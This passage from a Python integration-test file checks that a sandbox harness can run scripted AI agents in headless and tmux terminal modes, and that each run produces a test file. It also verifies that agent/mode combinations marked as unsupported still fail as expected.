    c.run(c.a.headless, {"sh": "echo made > made.txt && echo MADE"}, {"say": "ALL-FINE"})
    c.left("made.txt", "made\n")
    has(c.results()[0], "MADE")


def cell_terminal(c):
    """A person types a prompt, and a command runs."""
    if not shutil.which("tmux"):
        raise Skip("no tmux; tools/deps --test installs it")
    typed, words = c.a.terminal, ("--", *c.a.terminal.words) if c.a.terminal.words else ()
    # Words of the shell that tmux starts: each in quotes.
    command = " ".join(shlex.quote(str(x)) for x in (c.box.program, "run", *c.target(), *words))
    t = Tmux(c.box, c.env, f"{command}; echo LEFT; exec sh")
    try:
        t.shows(*typed.ready, seconds=LONG)
        if typed.echo:
            t.wake(typed.echo)
        t.type(script({"sh": "echo made > made.txt"}, {"say": "ANSWERED"}), bool(typed.echo))
        patience, again = Patience(LONG), time.monotonic() + 20
        while not (c.box.ws / "made.txt").exists():
            if patience.is_over():
                raise AssertionError(f"the command did not run: {t.screen()}")
            # Some do not take a prompt before they are through with their own affairs, and do not say so.
            if time.monotonic() > again:
                t.tmux("send-keys", "Enter")
                again += 20
            time.sleep(0.1)
        t.shows("ANSWERED", seconds=LONG)
    finally:
        t.tmux("kill-server")
        c.box.cli("stop", "--time", "0s", c.sandbox)


def cell_impossible(c, no):
    """The reason why a cell is empty still holds, as far as it can be seen here."""
    for path, text in no.files.items():
        c.box.write(path, json.dumps(text))
    if no.result:
        c.run(c.a.headless, {"sh": "echo made > made.txt && echo MADE"}, {"say": "ALL-FINE"})
        has(c.results()[0], no.result)
        assert not (c.box.ws / "made.txt").exists(), "the command ran: the reason does not hold any more"
    if no.says:
        r = c.box.run(*c.target(), "--", *c.words(no.words, {"say": "ALL-FINE"}), env=c.env, timeout=LONG)
        has(r.out + r.err, no.says)
        has_not(r.out, "ALL-FINE")


def register_cells():
    for name, agent in agents_table.TABLE.items():
        for mode in agents_table.MODES:
            if not agents_table.is_tested(agent, mode) or not (os.environ.get("VITRINE_TEST_AGENTS") or (name, mode) in SLICE):
                continue
            value = getattr(agent, mode)

            def cell(box, name=name, mode=mode, value=value):
                c = Cell(box, name)
                cell_impossible(c, value) if isinstance(value, agents_table.No) else globals()[f"cell_{mode}"](c)

            cell.__name__ = f"{name}_{mode}"
            test(who=(agent.who,), timeout=3 * LONG)(cell)


register_cells()


if __name__ == "__main__":
    sys.exit(main())
